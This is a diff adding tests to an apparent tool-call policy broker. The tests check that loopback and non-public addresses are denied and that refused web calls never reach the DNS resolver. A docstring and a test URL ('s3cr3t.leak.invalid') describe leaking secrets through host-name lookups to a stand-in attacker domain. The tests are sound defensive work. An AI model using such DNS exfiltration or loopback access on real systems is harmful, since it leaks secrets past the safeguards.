@@ -133,3 +133,60 @@ def test_a_link_swapped_after_the_decision_is_refused(
         tools.FileTools._open_read = real_open  # type: ignore[method-assign]
     assert reply["ok"] is False and "PEMKEY" not in str(reply), reply
     assert "changed meanwhile" in str(reply)
+
+
+# ------------------------------------------------------------- web: the address
+
+WEB_RULES = (
+    RuleSpec("no-loopback-address", 'call.kind == "net" && call.ip.loopback', "deny",
+             "not the host itself"),
+    RuleSpec("only-global", 'call.kind == "net" && !call.ip.global && !call.ip.loopback',
+             "deny", "public addresses only"),
+)
+
+
+@pytest.fixture
+def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """Every name the broker asks the resolver for."""
+    import socket
+
+    seen: list[str] = []
+    real = socket.getaddrinfo
+
+    def recording(host: str, *a: object, **kw: object) -> object:
+        seen.append(str(host))
+        return real(host, *a, **kw)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(socket, "getaddrinfo", recording)
+    return seen
+
+
+def _web_broker(tree: dict[str, Path], **kw: object) -> Iterator[Running]:
+    settings = PolicySettings(rules=WEB_RULES, allow_private_addresses=True,
+                              **kw)  # type: ignore[arg-type]
+    return running_broker(home=str(tree["home"]), workdir=str(tree["work"]),
+                          settings=settings, socket_path=str(tree["tmp"] / "web.sock"))
+
+
+def test_a_name_that_resolves_to_loopback_meets_the_address_rule(
+    tree: dict[str, Path], lookups: list[str],
+) -> None:
+    with _web_broker(tree) as b:
+        reply = call(b.path, "http_get", {"url": "http://localhost:9/x"})
+    _denied(reply, "rule:machine:no-loopback-address")
+    assert lookups == ["localhost"]
+    # The negative rule was not judged before the address was known (it
+    # would have denied every call: "" is not global).
+    assert "only-global" not in str(reply)
+
+
+def test_a_refused_call_never_sends_its_host_name_to_a_resolver(
+    tree: dict[str, Path], lookups: list[str],
+) -> None:
+    """A host name can carry data out (a lookup of secret.attacker.example):
+    a call the gate refuses is never resolved (seen failing with the first
+    form of resolve.py, which resolved before deciding)."""
+    with _web_broker(tree, permissions={"http_get": "deny"}) as b:
+        reply = call(b.path, "http_get", {"url": "http://s3cr3t.leak.invalid/x"})
+    assert reply["ok"] is False and "permission" in str(reply), reply
+    assert lookups == []
